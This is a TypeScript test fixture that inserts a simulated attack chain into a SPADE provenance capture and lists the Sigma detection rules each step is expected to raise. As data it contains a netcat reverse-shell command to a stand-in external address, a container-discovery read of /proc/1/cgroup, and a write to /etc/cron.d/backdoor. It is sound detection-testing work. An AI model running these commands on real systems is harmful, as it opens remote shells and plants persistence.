// An attack chain added to a copy of the CORAL corpus capture, in adservice's network namespace:
// its Java process spawns `/bin/sh -c ...`, which runs `nc -e /bin/sh 203.0.113.5 4444` (connecting
// to that public address), `cat /proc/1/cgroup`, and `tee` writing /etc/cron.d/backdoor.
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';

/** adservice's namespaces, as its probe processes in the capture show them. */
const AD = { net: '4026532834', mnt: '4026532987', pid: '4026532988' };

const id = (label: string) => createHash('md5').update(`attack:${label}`).digest('hex');

function processRecord(label: string, pid: number, ppid: number, exe: string, cmd: string, time: string) {
  return {
    type: 'Process',
    id: id(label),
    annotations: {
      pid: String(pid),
      ppid: String(ppid),
      name: path.basename(exe).slice(0, 15),
      exe,
      'command line': cmd,
      cwd: '/app',
      uid: '1000',
      euid: '1000',
      gid: '1000',
      egid: '1000',
      'start time': time,
      'net namespace': AD.net,
      'mount namespace': AD.mnt,
      'pid namespace': AD.pid,
      source: 'syscall',
    },
  };
}

function edge(type: string, from: string, to: string, operation: string, time: string) {
  return { type, from: id(from), to: id(to), annotations: { operation, time, 'event id': '1', source: 'syscall' } };
}

/** fork + execve, as SPADE records them: the clone child, WasTriggeredBy clone, the new image, WasTriggeredBy execve. */
function spawn(label: string, parent: string, parentPid: number, parentExe: string, parentCmd: string, pid: number, exe: string, cmd: string, t: number) {
  return [
    processRecord(`${label}-clone`, pid, parentPid, parentExe, parentCmd, `${t}.000`),
    edge('WasTriggeredBy', `${label}-clone`, parent, 'clone', `${t}.000`),
    processRecord(label, pid, parentPid, exe, cmd, `${t}.001`),
    edge('WasTriggeredBy', label, `${label}-clone`, 'execve', `${t}.001`),
  ];
}

export const JAVA = '/opt/java/openjdk/bin/java';
const JAVA_CMD = 'java -jar /app/build/libs/hipstershop-adservice.jar';
export const SH_CMD = '/bin/sh -c nc -e /bin/sh 203.0.113.5 4444; cat /proc/1/cgroup; tee /etc/cron.d/backdoor';
const NC_CMD = 'nc -e /bin/sh 203.0.113.5 4444';

export function attackRecords(): object[] {
  return [
    processRecord('java', 6400, 6116, JAVA, JAVA_CMD, '1701959650.000'),
    ...spawn('sh', 'java', 6400, JAVA, JAVA_CMD, 7001, '/bin/sh', SH_CMD, 1701959651),
    ...spawn('nc', 'sh', 7001, '/bin/sh', SH_CMD, 7002, '/usr/bin/nc', NC_CMD, 1701959652),
    {
      type: 'Artifact',
      id: id('socket'),
      annotations: { subtype: 'network socket', protocol: 'tcp', 'local address': '192.168.16.101', 'local port': '45678', 'remote address': '203.0.113.5', 'remote port': '4444', 'net namespace': AD.net, epoch: '0', version: '0', source: 'syscall' },
    },
    edge('WasGeneratedBy', 'socket', 'nc', 'connect', '1701959652.100'),
    ...spawn('cat', 'sh', 7001, '/bin/sh', SH_CMD, 7003, '/bin/cat', 'cat /proc/1/cgroup', 1701959653),
    ...spawn('tee', 'sh', 7001, '/bin/sh', SH_CMD, 7004, '/usr/bin/tee', 'tee /etc/cron.d/backdoor', 1701959654),
    { type: 'Artifact', id: id('cron'), annotations: { subtype: 'file', path: '/etc/cron.d/backdoor', permissions: '0644', epoch: '0', version: '0', source: 'syscall' } },
    edge('WasGeneratedBy', 'cron', 'tee', 'open', '1701959654.100'),
    edge('WasGeneratedBy', 'cron', 'tee', 'write', '1701959654.101'),
  ];
}

/** The capture with the attack appended in SPADE's layout (`,` + record a line, before the closing `]`). */
export function withAttack(capture: string): string {
  const text = readFileSync(capture, 'utf8').trimEnd();
  if (!text.endsWith(']')) throw new Error('corpus capture does not end with ]');
  return `${text.slice(0, -1).trimEnd()}\n${attackRecords().map((r) => `,${JSON.stringify(r)}`).join('\n')}\n]\n`;
}

/** The rule each step of the chain must raise, its process, category, and parent or target. */
export const ATTACK_ALERTS = [
  { rule: 'proc_creation_lnx_susp_java_children.yml', pid: '7001', category: 'process_creation', parentExe: JAVA },
  { rule: 'proc_creation_lnx_netcat_reverse_shell.yml', pid: '7002', category: 'process_creation', parentExe: '/bin/sh' },
  { rule: 'net_connection_lnx_susp_malware_callback_port.yml', pid: '7002', category: 'network_connection', target: '203.0.113.5:4444' },
  { rule: 'proc_creation_lnx_susp_container_residence_discovery.yml', pid: '7003', category: 'process_creation', parentExe: '/bin/sh' },
  { rule: 'file_event_lnx_susp_cron_file_created.yml', pid: '7004', category: 'file_event', target: '/etc/cron.d/backdoor' },
];
